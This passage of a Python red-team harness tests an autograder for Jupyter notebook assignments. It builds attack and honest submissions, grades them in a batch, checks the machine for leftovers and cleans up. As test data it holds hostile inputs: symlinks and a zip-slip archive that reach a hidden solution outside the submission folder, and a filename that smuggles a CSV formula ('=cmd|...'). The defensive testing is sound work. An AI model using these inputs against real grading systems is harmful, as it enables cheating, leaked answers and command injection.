            _symlink("rtlinkvictim.ipynb", lambda ctx, folder: folder / VICTIMS[0] / NOTEBOOK),
        ),
        _intake(
            "intake_link_folder",
            "rtlinkdir",
            "a symlink rtlinkdir to a folder outside holding a solution notebook",
            _symlink("rtlinkdir", lambda ctx, folder: ctx.secret_folder),
        ),
        _intake(
            "intake_inner_link",
            "rtinnerlink",
            "a student folder whose notebook is a symlink to a solution outside",
            _inner_link,
        ),
        _intake(
            "intake_zip_slip",
            "rtzipslip",
            "a zip whose only notebook is ../../<marker>-zipslip/<notebook>, with an absolute "
            "/tmp member",
            _zip_slip,
        ),
        _intake(
            "intake_zip_symlink",
            "rtzipsymlink",
            "a zip whose notebook member is a symlink to a solution outside",
            _zip_symlink,
        ),
        _intake(
            "intake_hidden_name",
            "rthidden",
            "a solution notebook named .rthidden.ipynb",
            _odd_name(".rthidden.ipynb"),
        ),
        _intake(
            "intake_upper_extension",
            "rtupper",
            "a solution notebook named RTUPPER.IPYNB",
            _odd_name("RTUPPER.IPYNB"),
        ),
        _intake(
            "intake_double_extension",
            "rttxt",
            "a solution notebook named rttxt.ipynb.txt",
            _odd_name("rttxt.ipynb.txt"),
        ),
        _intake(
            "intake_space_name",
            "rtspace",
            "a solution notebook named 'rtspace x.ipynb'",
            _odd_name("rtspace x.ipynb"),
        ),
        _intake(
            "intake_newline_name",
            "rtnewline",
            "a solution notebook whose name holds a newline and a CSV formula",
            _odd_name('rtnewline\n=cmd|"x",.ipynb'),
        ),
    ]
    honest = [
        _honest(
            "honest_renamed",
            "names of my own everywhere; ops.expand_dims for the inference feedback",
            _answers(HONEST_RENAMED),
        ),
        _honest(
            "honest_while_loops",
            "while loops in all three functions, unnamed inputs, a new Reshape((1, n_values)) "
            "for the inference feedback, a one-hot written by indexing",
            _answers(HONEST_WHILE),
        ),
        _honest(
            "honest_reshape_per_step",
            "djmodel creates a weightless Reshape((1, n_values)) at every step instead of "
            "using reshaper; predict_and_sample takes each step's argmax in a loop",
            _answers(HONEST_RESHAPE_PER_STEP),
        ),
        _honest(
            "honest_ops_only",
            "ops.expand_dims for the reshape in djmodel; a one-hot from ops.equal and "
            "ops.arange (no Lambda, no RepeatVector) with ops.reshape in the inference model",
            _answers(HONEST_OPS_ONLY),
        ),
        _honest(
            "honest_helper_cell",
            "a helper one_step() in a cell of the learner's own, used by djmodel and "
            "music_inference_model",
            (_new_cell("layers", HELPER_CELL), *_answers(HONEST_HELPER)),
        ),
        _honest(
            "honest_extra_cell_after",
            "the solution with extra cells after djmodel and after music_inference_model "
            "that print pieces and model (set by cells grading skips)",
            (
                _new_cell("djmodel", "print(len(pieces), 'pieces')\n"),
                _new_cell("music_inference_model", "model.summary()\n"),
            ),
        ),
        _honest(
            "honest_extra_cell_before",
            "extra cells before djmodel: one printing pieces (set by a skipped cell), one "
            "defining the constant djmodel reads; ops.take for the step",
            (
                _new_cell_before("djmodel", "print(pieces[0].name)\n"),
                _new_cell_before("djmodel", STEP_AXIS_CELL),
                *_answers(HONEST_STEP_AXIS),
            ),
        ),
        _honest(
            "honest_loop_argmax",
            "predict_and_sample with a Python loop over the predictions and np.eye one-hots "
            "(the solution stacks them and takes one argmax)",
            (_replace("predict_and_sample", HONEST_RESHAPE_PER_STEP["predict_and_sample"]),),
        ),
    ]
    victims = [
        Item(
            name,
            VICTIM,
            "victim",
            "the solution, byte-identical to the other victim, graded after the cache poisoners",
            _notebook("solution")(name),
            "solution",
            FULL_MARKS,
            GRADED,
        )
        for name in VICTIMS
    ]
    return [*attacks, *intake, *honest, *victims]


# --- observing the machine -----------------------------------------------------------


def marked_entries(marker: str, folders: tuple[str, ...] = SHARED_FOLDERS) -> list[str]:
    """Paths under ``folders`` whose names carry ``marker`` (symlinks not followed).

    The search goes 12 folders deep and not into a marked folder (a tree made too deep
    to walk is found at its top).
    """
    found: list[str] = []
    seen: set[tuple[int, int]] = set()
    stack = [(folder, 0) for folder in folders]
    while stack:
        folder, depth = stack.pop()
        try:
            info = os.stat(folder, follow_symlinks=False)
            if (info.st_dev, info.st_ino) in seen or not stat.S_ISDIR(info.st_mode):
                continue
            seen.add((info.st_dev, info.st_ino))
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            if marker in entry.name:
                found.append(entry.path)
                continue
            with contextlib.suppress(OSError):
                if depth < 12 and entry.is_dir(follow_symlinks=False):
                    stack.append((entry.path, depth + 1))
    return sorted(found)


def mounts_under(folder: Path) -> list[str]:
    """Mount points below ``folder`` (a task's scratch file system left mounted), deepest first."""
    prefix = str(folder).rstrip("/") + "/"
    try:
        lines = Path("/proc/mounts").read_text().splitlines()
    except OSError:
        return []
    points = [line.split()[1] for line in lines if len(line.split()) > 1]
    return sorted((p for p in points if p.startswith(prefix)), key=len, reverse=True)


def sysv_objects() -> dict[tuple[str, str], int]:
    """System V IPC objects on this machine: (kind, id) -> owner uid."""
    found: dict[tuple[str, str], int] = {}
    for kind, uid_column in (("shm", 7), ("sem", 4), ("msg", 7)):
        try:
            lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            if len(parts) > uid_column:
                found[(kind, parts[1])] = int(parts[uid_column])
    return found


def sandbox_processes(scratch: Path | None = None) -> dict[int, str]:
    """Processes of the sandboxes' users (uid >= UID_BASE): pid -> command line.

    With ``scratch``, only those of this batch: a process whose environment names another
    grader's scratch folder (``jazz-batch-`` elsewhere: a batch running beside this one)
    is left out; one that names ``scratch``, or none, is kept.
    """
    found: dict[int, str] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            uid_line = next(line for line in status.splitlines() if line.startswith("Uid:"))
            uid = int(uid_line.split()[1])
            if uid < UID_BASE:
                continue
            command = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ")
            if scratch is not None:
                environ = Path(f"/proc/{entry}/environ").read_bytes()
                if b"jazz-batch-" in environ and str(scratch).encode() not in environ:
                    continue
            found[int(entry)] = command.decode(errors="replace").strip()
        except (OSError, StopIteration, ValueError):
            continue
    return found


def text_hits(root: Path, needle: str, limit: int = 60_000_000) -> list[str]:
    """Files under ``root`` (not following symlinks) that contain ``needle``, with a line each."""
    hits = []
    data_needle = needle.encode()
    for folder, _, files in os.walk(root):
        for name in files:
            path = Path(folder) / name
            try:
                if path.is_symlink() or path.stat().st_size > limit:
                    continue
                data = path.read_bytes()
            except OSError:
                continue
            at = data.find(data_needle)
            for _ in range(3):
                if at < 0:
                    break
                line = data[at : at + 160].split(b"\n")[0].decode(errors="replace")
                hits.append(f"{path.relative_to(root)}: {line}")
                at = data.find(data_needle, at + 1)
    return hits


def large_files(root: Path, limit: int = 25_000_000) -> list[str]:
    """Result files of the course larger than ``limit`` bytes (output must be capped)."""
    found = []
    for folder in ("autograded", "logs", "reviews", "feedback"):
        for path in (root / folder).rglob("*"):
            with contextlib.suppress(OSError):
                if path.is_file() and not path.is_symlink() and path.stat().st_size > limit:
                    found.append(f"{path.relative_to(root)} ({path.stat().st_size} bytes)")
    for name in ("report.json", "grades.csv"):
        with contextlib.suppress(OSError):
            if (root / name).stat().st_size > limit:
                found.append(name)
    return found


# --- running the batch ---------------------------------------------------------------


@dataclass
class RedTeamRun:
    """What grading the red-team batch produced and left behind.

    Attributes:
        items: the items graded (the catalogue less those skipped).
        skipped: names left out (``REDTEAM_SKIP``).
        rows: ``report.json``'s row per student id.
        reviews: ``reviews/<id>.json`` per student id.
        course: the course folder.
        submissions: the submissions folder.
        scratch: the grader's scratch folder for this batch (its ``TMPDIR``).
        marker: the batch's attack marker.
        secret: the secret notebook's marker.
        leak_tag: what an attack prints when it got something.
        leftovers: entries of shared folders named with the marker.
        ipc: System V IPC objects created during the batch: (kind, id) -> uid.
        processes: sandbox processes alive after the batch that were not before.
        secret_hits: course files holding the secret.
        leak_hits: course files holding the leak tag.
        large: oversized result files.
        output: the tail of ``python -m grader autograde``'s output.
        seconds: wall time of the release and of the batch.
    """

    items: list[Item]
    skipped: list[str]
    rows: dict[str, dict[str, Any]]
    reviews: dict[str, dict[str, Any]]
    course: Path
    submissions: Path
    scratch: Path
    marker: str
    secret: str
    leak_tag: str
    leftovers: list[str] = field(default_factory=list)
    ipc: dict[tuple[str, str], int] = field(default_factory=dict)
    processes: dict[int, str] = field(default_factory=dict)
    secret_hits: list[str] = field(default_factory=list)
    leak_hits: list[str] = field(default_factory=list)
    large: list[str] = field(default_factory=list)
    output: str = ""
    seconds: dict[str, float] = field(default_factory=dict)

    def row_of(self, item: Item) -> tuple[str, dict[str, Any]] | None:
        """(student id, report row) of ``item``; for an intake trick, the row naming its token."""
        if not item.intake:
            row = self.rows.get(item.name)
            return (item.name, row) if row is not None else None
        token = (item.token or "").lower()
        for student, row in self.rows.items():
            text = (student + " " + json.dumps(row)).lower()
            if token in text:
                return student, row
        return None


def _context(workdir: Path, release: NotebookNode) -> Context:
    source = nbformat.read(SOURCE, as_version=4)
    built = {m.name: build_mutant(m, source, release) for m in mutants()}
    marker = "rtm" + uuid.uuid4().hex[:12]
    secret = "SECRET" + uuid.uuid4().hex
    outside = workdir / "outside"
    secret_folder = outside / "secret_folder"
    secret_folder.mkdir(parents=True)
    notebook = copy.deepcopy(built["solution"])
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell(f"The instructor's copy: {secret}"))
    notebook.cells.insert(1, nbformat.v4.new_code_cell(f'INSTRUCTOR_NOTE = "{secret}"\n'))
    secret_notebook = outside / "answers.ipynb"
    nbformat.write(notebook, secret_notebook)
    nbformat.write(notebook, secret_folder / NOTEBOOK)
    return Context(source, release, built, marker, secret, outside, secret_notebook, secret_folder)


def _skipped() -> set[str]:
    return {name.strip() for name in os.environ.get(SKIP_ENV, "").split(",") if name.strip()}


def run_redteam(workdir: Path) -> RedTeamRun:
    """Release a course in ``workdir`` and grade the whole catalogue in one batch.

    ``python -m grader autograde --workers 2 --timeout 120`` grades every item (HTML
    feedback included), with a scratch folder of its own (``TMPDIR``: what an attack
    leaves there is found, and cannot trip another grader running on this machine);
    before and after it, the shared folders, System V IPC and the sandboxes' processes
    are looked at, and afterwards every file of the course is searched for the secret and
    for the leak tag.

    Raises:
        CatalogueError: the release or the batch failed.
    """
    seconds: dict[str, float] = {}
    start = time.perf_counter()
    course = workdir / "course"
    _grader(
        [
            "release",
            "--course",
            str(course),
            "--solutions",
            str(ROOT / "solutions"),
            "--notebooks",
            str(workdir / "notebooks"),
        ],
        workdir,
    )
    seconds["release"] = time.perf_counter() - start
    release = nbformat.read(workdir / "notebooks" / NOTEBOOK, as_version=4)
    ctx = _context(workdir, release)
    skip = _skipped()
    chosen = [item for item in items() if item.name not in skip]
    submissions = workdir / "submissions"
    submissions.mkdir()
    for item in sorted(chosen, key=lambda i: i.intake):  # the victims exist before links to them
        item.make(ctx, submissions)

    ipc_before = sysv_objects()
    processes_before = sandbox_processes()
    # A scratch folder of the batch's own (the sandboxes' users must be able to enter it):
    # what an attack leaves there is found, and no other grader on this machine trips on it.
    scratch = Path(tempfile.mkdtemp(prefix="jazz-redteam-", dir="/tmp"))
    scratch.chmod(0o711)
    start = time.perf_counter()
    saved = os.environ.get("TMPDIR")
    os.environ["TMPDIR"] = str(scratch)
    try:
        process = _grader_process(
            [
                "autograde",
                "--course",
                str(course),
                "--submissions",
                str(submissions),
                "--workers",
                str(WORKERS),
                "--timeout",
                str(TIMEOUT_S),
            ],
            workdir,
        )
    finally:
        if saved is None:
            os.environ.pop("TMPDIR", None)
        else:
            os.environ["TMPDIR"] = saved
    output, _ = process.communicate()
    seconds["autograde"] = time.perf_counter() - start
    run = RedTeamRun(
        chosen,
        sorted(skip),
        {},
        {},
        course,
        submissions,
        scratch,
        ctx.marker,
        ctx.secret,
        ctx.leak_tag(),
        output=output[-6000:],
        seconds=seconds,
    )
    deadline = time.monotonic() + 10
    while True:  # processes of the last sandboxes may take a moment to go
        run.processes = {
            pid: command
            for pid, command in sandbox_processes(scratch).items()
            if pid not in processes_before
        }
        if not run.processes or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    run.ipc = {key: uid for key, uid in sysv_objects().items() if key not in ipc_before}
    run.leftovers = marked_entries(ctx.marker, (*SHARED_FOLDERS, str(scratch)))
    run.leftovers += [f"mounted: {point}" for point in mounts_under(scratch)]
    if process.returncode != 0:
        cleanup(run)
        raise CatalogueError(f"python -m grader autograde failed:\n{output[-4000:]}")
    report = json.loads((course / "report.json").read_text())
    run.rows = report.get("students", {})
    run.reviews = {
        path.stem: json.loads(path.read_text()) for path in (course / "reviews").glob("*.json")
    }
    run.secret_hits = text_hits(course, ctx.secret)
    run.leak_hits = text_hits(course, ctx.leak_tag())
    run.large = large_files(course)
    return run


def _remove(path: str) -> None:
    """Remove a file or a (possibly very deep) tree, not following symlinks."""
    if os.path.islink(path) or not os.path.isdir(path):
        with contextlib.suppress(OSError):
            os.unlink(path)
        return
    subprocess.run(["rm", "-rf", "--one-file-system", "--", path], check=False)


def _remove_ipc(kind: str, ident: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    ipc_rmid = 0
    if kind == "shm":
        libc.shmctl(ident, ipc_rmid, None)
    elif kind == "sem":
        libc.semctl(ident, 0, ipc_rmid)
    else:
        libc.msgctl(ident, ipc_rmid, None)


def cleanup(run: RedTeamRun) -> None:
    """Remove what the batch's attacks left on this machine (only what carries their marks).

    Files and folders named with the marker, System V IPC objects the sandboxes' users
    created during the batch, processes whose command line carries the marker (the
    daemon attack's), each killed by its id, and the batch's scratch folder (file systems
    mounted in it detached first).
    """
    for path in marked_entries(run.marker, (*SHARED_FOLDERS, str(run.scratch))):
        _remove(path)
    for (kind, ident), uid in run.ipc.items():
        if uid >= UID_BASE:
            with contextlib.suppress(Exception):
                _remove_ipc(kind, int(ident))
    for pid, command in sandbox_processes().items():
        if run.marker in command:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    shutil.rmtree(run.submissions, ignore_errors=True)
    libc = ctypes.CDLL(None, use_errno=True)
    for point in mounts_under(run.scratch):
        libc.umount2(point.encode(), 2)  # MNT_DETACH
    _remove(str(run.scratch))


# --- goldens -------------------------------------------------------------------------


def base_totals() -> dict[str, float]:
    """Each mutant's golden total (tests/golden/mutant_scores.json)."""
    table = json.loads(GOLDEN.read_text())
    return {name: float(row["total"]) for name, row in table["mutants"].items()}


def expected_rows() -> dict[str, Any]:
    """The golden table as the catalogue states it (the design's expectations)."""
    return {
        "max_score": FULL_MARKS,
        "items": {
            item.name: {
                "group": item.group,
                "class": item.kind,
                "description": item.description,
                "base": item.base,
                "total": item.expected_total,
                "status": item.expected_status,
            }
            for item in items()
        },
    }


def golden_rows(run: RedTeamRun) -> dict[str, Any]:
    """The golden table from a run: each item's total and status as graded.

    An attack's total is never recorded above its base's golden total: a run in which an
    attack gained cannot raise the bar the tests hold it to.
    """
    table = expected_rows()
    bases = base_totals()
    for item in run.items:
        found = run.row_of(item)
        if found is None:
            continue
        row = table["items"][item.name]
        total = float(found[1].get("score", 0.0))
        if item.group == ATTACK:
            total = min(total, bases.get(item.base, 0.0))
        row["total"], row["status"] = total, found[1].get("status")
    return table
